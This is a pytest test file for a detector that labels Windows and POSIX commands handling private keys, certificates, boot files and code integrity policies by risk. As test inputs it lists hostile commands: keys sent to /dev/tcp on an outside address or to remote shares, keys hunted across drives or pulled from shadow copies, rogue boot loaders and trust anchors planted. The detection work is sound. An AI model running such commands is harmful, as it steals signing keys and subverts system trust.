"""Key files on this host: copied, decoded, shown."""

from __future__ import annotations

import pytest
from codesignrisk_core import keyfiles
from codesignrisk_core.keyfiles import transfer
from codesignrisk_core.model import MAX_OPERANDS, TOO_MANY_OPERANDS, Report

from tests.core.lines import ids, posix, windows

CATALOGS = "{F750E6C3-38EE-11D1-85E5-00C04FC295EE}"


def found(report: Report | None) -> list[str]:
    return sorted(ids(report))


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("copy web.pfx C:\\inetpub\\ssl", ["copy_key_file"]),
        ("copy C:\\certs\\*.pfx D:\\x", ["copy_key_files"]),
        ("copy C:\\c\\web.pfx \\\\fs01\\drop", ["copy_key_file", "key_to_share"]),
        ("copy C:\\c\\web.pfx F:\\", ["copy_key_file", "key_to_other_drive"]),
        ("copy C:\\c\\web.pfx C:\\Users\\Public\\note.txt", ["copy_key_file", "key_disguised", "output_user_writable"]),
        ("copy C:\\Users\\*\\web.pfx D:\\x", ["copy_key_files", "hunt_key_files", "key_other_profile"]),
        # a wildcard that reaches into all folders of a home or drive is a search, too
        ("xcopy C:\\Users\\*.pfx D:\\x /s", ["copy_key_files", "hunt_key_files"]),
        ("xcopy C:\\Users\\*.pfx D:\\x", ["copy_key_files"]),
        ("robocopy C:\\ D:\\x *.p12 /e", ["copy_key_files", "hunt_key_files"]),
        ("robocopy \\\\fs1\\d$ D:\\x *.p12 /e", ["copy_key_files", "hunt_key_files", "input_remote"]),
        ("robocopy \\\\fs1\\keys D:\\x *.p12 /e", ["copy_key_files", "input_remote"]),
        (
            "robocopy \\\\fs1\\keys C:\\PerfLogs\\x *.p12 /e",
            ["copy_key_files", "hunt_key_files", "input_remote", "output_user_writable"],
        ),
        ("type nul > a.exe:Zone.Identifier", ["mark_of_web_removed"]),
        ("type nul > a.exe:other", []),
        ("copy D:\\p\\SiPolicy.p7b S:\\EFI\\Microsoft\\Boot\\", ["code_integrity_policy"]),
        ("copy D:\\p\\chain.p7b S:\\EFI\\other\\", []),
        ("robocopy C:\\work\\certs D:\\x *.p12 /e", ["copy_key_files"]),
        ("robocopy C:\\w \\\\198.51.100.7\\in *.pfx", ["key_to_outside", "key_to_share", "upload_key_file"]),
        ("robocopy C:\\w \\\\10.0.0.7\\in *.pfx", ["copy_key_files", "key_to_bare_address", "key_to_share"]),
        # the drive of whoever is connected by remote desktop
        ("robocopy C:\\w \\\\tsclient\\E\\in *.pfx", ["key_to_outside", "key_to_share", "upload_key_file"]),
        ("robocopy C:\\w \\\\fs01\\in *.pfx", ["copy_key_files", "key_to_share"]),
        ("copy SiPolicy.p7b C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b", ["code_integrity_policy"]),
        (
            "copy \\\\10.0.0.7\\pub\\SiPolicy.p7b C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b",
            ["code_integrity_policy", "input_bare_address", "input_remote"],
        ),
        (
            "copy C:\\Users\\Public\\x.cip C:\\Windows\\System32\\CodeIntegrity\\CiPolicies\\Active",
            ["code_integrity_policy", "input_user_writable"],
        ),
        ("copy \\\\10.0.0.7\\pub\\SiPolicy.p7b D:\\x", []),
        # the name of an everyday file hides no policy
        # the boot loader's own folder, on the EFI partition that somebody mounted
        ("copy a.cip S:\\EFI\\Microsoft\\Boot\\CiPolicies\\Active", ["code_integrity_policy"]),
        ("copy a.bin S:\\EFI\\Microsoft\\Boot\\SiPolicy.p7b", ["code_integrity_policy"]),
        ("copy a.cip S:\\EFI\\Contoso", []),
        ("copy x.pem C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b", ["code_integrity_policy"]),
        ("copy C:\\Users\\ann\\w.pfx C:\\Users\\bob\\x", ["copy_key_file", "key_other_profile"]),
        ("copy C:\\Users\\ann\\w.pfx C:\\Users\\ann\\x", ["copy_key_file"]),
        ("copy server.key C:\\nginx\\conf", []),
        ("copy /y ..\\app.snk obj", []),
        ("copy server.key \\\\fs01\\drop", ["copy_key_file", "key_to_share"]),
        ("copy web.pfx.txt D:\\x", []),
        ("xcopy C:\\certs\\*.p12 D:\\x /s /y", ["copy_key_files"]),
        ("xcopy %APPDATA%\\Microsoft\\Crypto\\RSA D:\\x /s", ["copy_key_files", "key_containers"]),
        ("robocopy %APPDATA%\\Microsoft\\Protect D:\\x /e", ["copy_key_files", "key_containers"]),
        ("robocopy %APPDATA%\\Microsoft\\SystemCertificates D:\\x /e", ["copy_key_files", "key_containers"]),
        ("robocopy C:\\Users\\kim\\AppData\\LocalLow\\NPKI D:\\x /e", ["copy_key_files", "key_containers"]),
        ("robocopy %APPDATA%\\Microsoft\\Templates D:\\x /e", []),
        ("robocopy C:\\certs \\\\nas\\b *.pfx *.p12 /s", ["copy_key_files", "key_to_share", "several_key_kinds"]),
        ("robocopy C:\\work D:\\backup /mir /xf *.pfx *.key", []),
        ("esentutl /y C:\\c\\w.pfx /d D:\\w.pfx /vss", ["copy_key_file", "from_shadow_copy"]),
        ("esentutl /y /vss C:\\c\\w.pfx /d D:\\w.pfx", ["copy_key_file", "from_shadow_copy"]),
        ("esentutl /d C:\\c\\w.pfx", []),
        (f"copy a.cat C:\\Windows\\System32\\CatRoot\\{CATALOGS}", ["catalog_planted"]),
        (f"copy a.cat C:\\Windows\\System32\\CatRoot\\{CATALOGS}\\b.cat", ["catalog_planted"]),
        ("copy C:\\Windows\\System32\\CatRoot\\a.cat D:\\x", []),
        ("copy C:\\Users\\Public\\b.efi S:\\EFI\\Microsoft\\Boot\\bootmgfw.efi", ["boot_file_planted"]),
        ("copy D:\\image\\b.efi S:\\EFI\\Microsoft\\Boot\\bootmgfw.efi", []),
        (
            "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\c\\w.key D:\\x",
            ["copy_key_file", "from_shadow_copy"],
        ),
        ("type C:\\c\\w.pvk", ["show_key_file"]),
        ("type C:\\c\\w.pfx > \\\\fs01\\d\\w.pfx", ["copy_key_file", "key_to_share"]),
        ("type ca.pem", []),
    ],
)
def test_copies_on_windows(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(windows(line))) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("cp a.p12 /srv/app", ["copy_key_file"]),
        ("cp -t /tmp a.p12 b.jks", ["copy_key_files", "output_user_writable", "several_key_kinds"]),
        (
            "cp /Users/ann/Library/Keychains/login.keychain-db /Volumes/USB",
            ["copy_key_files", "key_containers", "key_to_other_drive"],
        ),
        ("cp /Users/ann/Library/Application Support/x.p12 /srv", ["copy_key_file"]),
        ("cp server.key /etc/nginx/ssl", []),
        ("cat /etc/ssl/private/server.key", ["show_key_file"]),
        ("cat a.pem b.pem", []),
        ("base64 -d -o /srv/a.p12 a.txt", ["decode_key_file"]),
        ("base64 --decode a.txt > a.p12", ["decode_key_file"]),
        ("base64 a.p12", ["encode_key_file"]),
        ("base64 -w0 /srv/secrets/a.p12", ["encode_key_file", "from_secrets_folder"]),
        ("base64 a.pem", []),
        ("base64 a.png", []),
        ("cp /tmp/shim.efi /boot/efi/EFI/BOOT/bootx64.efi", ["boot_file_planted"]),
        ("cp -f /dev/shm/bootx64.efi /boot/efi/EFI/Boot", ["boot_file_planted"]),
        ("cp /usr/lib/shim/shimx64.efi /boot/efi/EFI/BOOT/bootx64.efi", []),
        ("cp /tmp/shim.efi /srv/backup/shim.efi", []),
        (
            "cp -r /Users/ann/.appstoreconnect/private_keys /tmp/k",
            ["copy_key_files", "key_containers", "output_user_writable"],
        ),
        ("docker cp web:/keys/a.p12 /srv/x", ["copy_key_file"]),
        ("kubectl cp ns/web-0:/keys/a.p12 /tmp/x", ["copy_key_file", "output_user_writable"]),
        ("docker build -t a.p12 .", []),
    ],
)
def test_copies_on_posix(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(posix(line))) == indicators


def test_operands_are_kept_in_their_normal_form() -> None:
    report = keyfiles.judge(windows("copy ..\\Keys\\Web.PFX D:\\x", "C:\\Work\\App"))
    assert report is not None
    assert (report.tool, report.action, report.files) == ("copy", "copy_key", ["c:\\work\\keys\\web.pfx"])


def told(line: str, cwd: str = "") -> list[str]:
    report = keyfiles.judge(windows(line, cwd))
    return [finding.sentence for finding in report.findings] if report else []


@pytest.mark.parametrize(
    ("line", "sentences"),
    [
        ("copy web.pfx C:\\inetpub\\ssl", ["copy copies the key file web.pfx to ssl"]),
        ("copy web.pfx", ["copy copies the key file web.pfx to the current folder"]),
        ("copy web.pfx D:\\", ["copy copies the key file web.pfx to d:"]),
        ("copy *.pfx D:\\x", ["copy copies key files to x"]),
        (
            "copy C:\\Users\\*\\*.pfx D:\\x",
            [
                "the key comes out of another user's profile",
                "copy copies key files to x",
                "copy takes key files from a whole drive or home",
            ],
        ),
        ("copy C:\\c\\w.pfx F:\\", ["the key is written to another drive", "copy copies the key file w.pfx to f:"]),
        (
            "copy C:\\c\\w.pfx C:\\Users\\Public\\n.txt",
            [
                "n.txt is a user-writable path",
                "the key gets the name n.txt",
                "copy copies the key file w.pfx to n.txt",
            ],
        ),
        (
            "copy \\\\fs1\\x\\w.pfx D:\\x",
            ["the key is read from a share", "copy copies the key file w.pfx to x"],
        ),
        (
            "copy C:\\secrets\\w.pfx D:\\x",
            ["the key comes out of a folder of secrets", "copy copies the key file w.pfx to x"],
        ),
        (
            "copy \\\\fs1\\x\\@GMT-2025.06.03-09.00.00\\w.key D:\\x",
            [
                "the key comes out of a shadow copy, past locks and permissions",
                "the key is read from a share",
                "copy copies the key file w.key to x",
            ],
        ),
        ("type w.pfx", ["type prints the key file w.pfx"]),
        ("base64 w.pfx", ["base64 turns the key file w.pfx into text"]),
        (
            "base64 -d a.txt > C:\\Temp\\w.pfx",
            ["base64 decodes the key file w.pfx", "w.pfx is put in a user-writable path"],
        ),
    ],
)
def test_it_is_told_in_sentences(line: str, sentences: list[str]) -> None:
    assert told(line) == sentences


@pytest.mark.parametrize(
    ("program", "reader"),
    [
        *((name, transfer.copy) for name in "copy move xcopy robocopy replace cp gcp mv ditto install".split()),
        *((name, transfer.show) for name in ("type", "cat", "more")),
        *((name, transfer.decode) for name in ("base64", "gbase64")),
        ("esentutl", transfer.esentutl),
    ],
)
def test_programs(program: str, reader: object) -> None:
    assert transfer.READERS[program] is reader


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        # everyday files need a circumstance
        *((f"copy a.{kind} D:\\x", []) for kind in ("key", "pem", "snk", "keystore")),
        *(
            (f"copy a.{kind} \\\\fs1\\x", ["copy_key_file", "key_to_share"])
            for kind in ("key", "pem", "snk", "keystore")
        ),
        ("copy C:\\Users\\ann\\a.key C:\\Users\\bob\\x", ["copy_key_file", "key_other_profile"]),
        ("copy a.key C:\\Users\\Public\\x", []),
        ("copy a.key+a.pfx D:\\x", ["copy_key_files", "several_key_kinds"]),
        # a wildcard that goes down all folders of a home or drive
        ("xcopy C:\\Users\\ann\\*.pfx D:\\x /e", ["copy_key_files", "hunt_key_files"]),
        ("copy C:\\Users\\ann\\*.pfx D:\\x /s", ["copy_key_files"]),
        ("xcopy C:\\*.key \\\\fs1\\x /s", ["copy_key_files", "key_to_share"]),
        *((f"robocopy C:\\ D:\\x *.pfx /{deep}", ["copy_key_files", "hunt_key_files"]) for deep in ("s", "e", "mir")),
        ("robocopy C:\\ D:\\x *.pfx", ["copy_key_files"]),
        ("robocopy C:\\w D:\\x /xd *.pfx", []),
        ("robocopy C:\\w", []),
        # esentutl
        ("esentutl -y C:\\c\\w.pfx -d D:\\w.pfx", ["copy_key_file"]),
        ("esentutl /y C:\\c\\w.pfx /d D:\\w.pfx /vssrec x y", ["copy_key_file", "from_shadow_copy"]),
        # a certificate is no key; a folder of keys is
        ("copy a.cer D:\\x", []),
        ("copy C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Crypto\\x D:\\x", ["copy_key_files", "key_containers"]),
        ("copy -x.pfx D:\\x", []),
        # App Control
        ("copy a.p7b C:\\Windows\\System32\\CodeIntegrity", ["code_integrity_policy"]),
    ],
)
def test_more_copies(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(windows(line))) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("cp --target-directory=/tmp a.p12", ["copy_key_file", "output_user_writable"]),
        ("cp a.p12", ["copy_key_file"]),
        ("mv a.p12 b.p12 /srv", ["copy_key_files"]),
        ("install -m 600 -o root a.p12 /srv", ["copy_key_file"]),
        ("ditto a.p12 /srv", ["copy_key_file"]),
        ("cat a.p12 > /tmp/n.txt", ["copy_key_file", "key_disguised", "output_user_writable"]),
        ("cat -n a.p12", ["show_key_file"]),
        ("more a.p12", ["show_key_file"]),
        ("base64 -i a.p12 -o /tmp/a.txt", ["encode_key_file", "key_disguised", "output_user_writable"]),
        ("base64 --input=a.p12", ["encode_key_file"]),
        ("base64 -D a.txt -o /srv/a.p12", ["decode_key_file"]),
        ("base64 -d a.txt --output=/tmp/a.p12", ["decode_key_file", "output_user_writable"]),
        ("base64 -d a.p12 -o a.txt", []),
        ("base64 -d a.txt --output /srv/a.p12", ["decode_key_file"]),
        ("base64 --input a.p12 --wrap 0 --break b.p12", ["encode_key_file"]),
        ("cp x.txt /usr/local/share/ca-certificates/", []),
        ("cp x.key /usr/local/share/ca-certificates/", ["add_trust_anchor"]),
        ("cp x.p12 /usr/local/share/ca-certificates/", ["copy_key_file"]),
        (
            "cp /dev/shm/.k/x.crt /usr/local/share/ca-certificates/",
            ["add_trust_anchor", "input_hidden", "input_user_writable"],
        ),
        ("cp /tmp/x.pem /etc/ssl/certs/3513523f.0", ["add_trust_anchor", "input_user_writable"]),
        ("ln -s /srv/x.pem /etc/ssl/certs/3513523f.0", ["add_trust_anchor"]),
        ("ln -s /srv/x.pem /etc/ssl/certs/site.pem", ["certificate_beside_roots"]),
        # folders, other names, what comes in
        ("cp -r /srv/v1.2 /etc/pki/trust/anchors", ["add_trust_anchor"]),
        ("cp /srv/v1.2 /etc/pki/trust/anchors", []),
        ("cp -t /etc/pki/trust/anchors /srv/certs", ["add_trust_anchor"]),
        ("install -d x /etc/pki/trust/anchors", []),
        ("tee -a /srv/log /etc/pki/trust/anchors/x.pem", ["add_trust_anchor"]),
        ("tee /srv/x.pem", []),
        ("dd of=/etc/pki/trust/anchors/x.pem", ["add_trust_anchor"]),
        ("dd if=/dev/zero of=/srv/x.pem bs=1 count=1", []),
        ("dd if=a.p12 of=/srv/x", ["copy_key_file"]),
        ("cp /srv/x.pem /etc/pki/tls/certs/ca-bundle.crt", ["add_trust_anchor"]),
        # folders of private keys as a whole, not the files in them
        ("cp -r /etc/pki/tls/private /srv", ["copy_key_files"]),
        ("cp -r /var/lib/rancher/k3s/server/tls /srv", ["copy_key_files"]),
        ("cp /etc/kubernetes/pki/ca.crt /srv", []),
        # keys that sign for others, by their names
        ("cp /etc/kubernetes/pki/ca.key /srv", ["authority_key", "copy_key_file"]),
        ("cat /etc/pki/CA/private/cakey.pem", ["authority_key", "show_key_file"]),
        ("base64 /usr/src/linux/certs/signing_key.pem", ["authority_key", "encode_key_file"]),
        ("cat /var/lib/shim-signed/mok/MOK.priv", ["authority_key", "show_key_file"]),
        ("cat /usr/src/linux/certs/x509.genkey", []),
        ("cp /etc/kubernetes/pki/apiserver.key /srv", []),
        # a connection that bash opens
        ("cat a.p12 > /dev/tcp/203.0.113.5/443", ["key_to_outside", "upload_key_file"]),
        ("cat a.txt > /dev/tcp/203.0.113.5/443", []),
        # a path as it was typed
        ("cp -R /Users/a/Library/MobileDevice/Provisioning\\ Profiles /srv", ["copy_key_files", "key_containers"]),
        ("cp -L /etc/letsencrypt/live/h.example/fullchain.pem /etc/nginx/", []),
        ("ls /etc/ssl/private", []),
    ],
)
def test_more_copies_on_posix(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(posix(line))) == indicators


@pytest.mark.parametrize(("extension", "folder"), [("p12", "/srv"), ("crt", "/etc/pki/trust/anchors")])
def test_files_that_are_not_looked_at_are_told(extension: str, folder: str) -> None:
    for number, limits in ((MAX_OPERANDS, []), (MAX_OPERANDS + 1, [TOO_MANY_OPERANDS])):
        line = "cp " + " ".join(f"{name}.{extension}" for name in range(number)) + f" {folder}"
        report = keyfiles.judge(posix(line))
        assert report is not None
        assert (len(report.files), report.limits) == (MAX_OPERANDS, limits)


def test_a_wildcard_is_no_file() -> None:
    report = keyfiles.judge(windows("copy *.pfx+a.p12 D:\\x", "C:\\w"))
    assert report is not None
    assert report.files == ["c:\\w\\a.p12"]
